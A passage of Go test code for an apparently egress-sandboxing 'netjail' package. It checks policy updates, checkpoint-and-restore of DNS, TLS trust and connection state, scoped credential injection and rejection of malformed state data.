	if err := b.jail.SetPolicy(limited(egress.Rule{Name: "db", Hosts: []string{"db.corp.example"}, Ports: ports(5432)})); err != nil {
		t.Fatal(err)
	}
	if _, err := io.ReadAll(conn); !isReset(err) {
		t.Errorf("err = %v", err)
	}
}

func TestAStateIsServedOn(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.host("a.example", new(site))
	w.host("b.example", new(site))
	o := netjail.Options{
		Policy:      limited(egress.Rule{Hosts: []string{"a.example", "b.example"}}),
		Credentials: []netjail.Credential{{Name: "TOKEN", Hosts: []string{"a.example"}, Where: netjail.Where{Header: true}, Value: value("secret-value-1")}},
	}
	one := w.box(o)
	first, _ := one.resolve("a.example")
	second, _ := one.resolve("b.example")
	state, err := one.jail.State()
	if err != nil {
		t.Fatal(err)
	}
	o.State = state
	for range 2 { // two copies of one checkpoint
		two := w.box(o)
		if addr, err := two.resolve("b.example"); addr != second || err != nil {
			t.Errorf("b.example was %v and is %v, %v", second, addr, err)
		}
		if !slices.Equal(one.jail.Env(), two.jail.Env()) {
			t.Errorf("the environment has changed:\n%v\n%v", one.jail.Env(), two.jail.Env())
		}
		// What the processes in the box trust, and the address they remember, still hold.
		c := two.client()
		c.Transport.(*http.Transport).TLSClientConfig.RootCAs = one.trusts()
		if r, _ := two.fetch(c, "GET", "https://a.example/", ""); r.StatusCode != 200 {
			t.Errorf("status %d", r.StatusCode)
		}
		conn, err := two.dial(netip.AddrPortFrom(first, 443).String())
		if err != nil {
			t.Error(err)
		}
		conn.Close()
	}
	for _, bad := range []string{"nonsense", "{}", `{"Format":2}`} {
		o.State = []byte(bad)
		o.Record = func(netjail.Decision) error { return nil }
		if _, err := netjail.New(o); err == nil {
			t.Errorf("state %q is accepted", bad)
		}
	}
}
